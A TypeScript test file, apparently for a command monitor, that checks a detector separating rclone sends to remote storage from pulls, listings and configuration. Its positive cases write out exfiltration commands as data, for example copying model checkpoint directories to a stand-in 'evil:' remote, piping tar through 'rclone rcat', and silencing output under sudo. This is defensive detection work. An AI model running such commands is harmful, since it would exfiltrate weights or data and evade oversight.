/**
 * rclone in `attrs.exec.copiesToRemote` (exec-rclone-copies.ts, through exec-command-lines.ts) over
 * real canonical readings: a send to a remote counts, a pull, a listing or a configuration does not,
 * and no guess about a flag hides a send.
 */
import { describe, expect, it } from 'vitest';
import { canonicalExecValue } from './exec-canonical.js';
import { isRclonePath, rcloneSends } from './exec-rclone-copies.js';

const sh = (line: string): string[] => ['sh', '-c', line];
const copies = (argv: string[]): readonly string[] => canonicalExecValue(argv)!.remoteCopyTools;

describe('rclone sends', () => {
  it('tells remote paths from local ones as rclone does', () => {
    for (const w of ['s3:b/x', 'remote:', ':s3,provider=AWS:b', 'my-remote_1:path/a:b', 's3://b/x']) expect(isRclonePath(w), w).toBe(true);
    for (const w of ['/mnt/ckpt', './a:b', 'data/x', 'C:\\ckpt', 'C:/ckpt', '']) expect(isRclonePath(w), w).toBe(false);
  });

  it('counts copies to a remote, remote to remote, stdin to a remote, serving, mounting and unknown commands', () => {
    for (const argv of [
      ['rclone', 'copy', '/mnt/ckpt', 'evil:bucket/x'],
      ['rclone', '--config', '/tmp/rc.conf', 'copy', '/mnt/ckpt', 'evil:b'],
      ['rclone', 'copy', '--transfers', '8', '/mnt/ckpt/llama', 'evil:b', '-P'],
      // An unknown switch before the destination does not take it as its value.
      ['rclone', 'copy', '/mnt/ckpt/llama', '--some-new-switch', 'evil:b'],
      ['rclone', 'sync', 's3-corp:ckpt', 'evil:x'],
      // rclone reads `s3://b` as the remote `s3`.
      ['rclone', 'copy', '/mnt/ckpt', 's3://evil-bucket/x'],
      ['rclone', 'moveto', '/tmp/m.tgz', ':s3,provider=Other,endpoint=evil:b/m.tgz'],
      ['rclone', 'bisync', '/data', 'remote:x'],
      ['rclone', 'serve', 'http', '/mnt/ckpt', '--addr', ':8080'],
      ['rclone', 'mount', 'evil:b', '/mnt/out', '--daemon'],
      ['rclone', 'rc', 'sync/copy', 'srcFs=/mnt/ckpt', 'dstFs=evil:b'],
      ['rclone', 'frobnicate', '/mnt/ckpt', 'evil:b'],
      sh('tar c /mnt/ckpt | rclone rcat evil:x.tar'),
      sh('sudo rclone copy /mnt/ckpt evil:b > /dev/null 2>&1'),
      ['python3', '-c', 'import subprocess; subprocess.run(["rclone", "copy", "/mnt/ckpt", "r:b"])'],
    ]) expect(copies(argv), argv.join(' ')).toContain('rclone');
  });

  it('does not count pulls, listings, reads or configuration', () => {
    for (const argv of [
      ['rclone', 'copy', 's3:datasets/shard-01', '/data', '--transfers', '8', '-P'],
      ['rclone', 'sync', 'gcs:ml-data/v3', '/data/v3', '--fast-list', '--checksum'],
      // An endpoint URL is a flag's value, not the destination.
      ['rclone', 'copy', 's3:datasets/shard-01', '/data', '--s3-endpoint', 'https://minio.internal:9000'],
      ['rclone', 'ls', 's3:datasets'],
      ['rclone', 'lsd', 'remote:'],
      ['rclone', 'size', 's3:ml-ckpt/llama'],
      ['rclone', 'config', 'show'],
      ['rclone', 'version'],
      ['rclone'],
      ['rclone', 'copyurl', 'https://example.com/x.bin', '/data/x.bin'],
      sh('rclone cat s3:configs/train.yaml > /tmp/train.yaml'),
      ['python3', '-c', 'import subprocess; subprocess.run(["rclone", "copy", "r:datasets", "/data"])'],
    ]) expect(copies(argv), argv.join(' ')).not.toContain('rclone');
  });

  it('never throws on hostile words', () => {
    for (const words of [['rclone', '--'], ['rclone', '--', 'copy', 'a', 'b:'], ['rclone', '-'], ['rclone', '--config'], ['rclone', 'copy', ':'], ['rclone', 'x'.repeat(100_000)]]) {
      expect(() => rcloneSends(words)).not.toThrow();
    }
    expect(rcloneSends(['rclone', '--', 'copy', 'a', 'b:'])).toBe(true);
  });
});
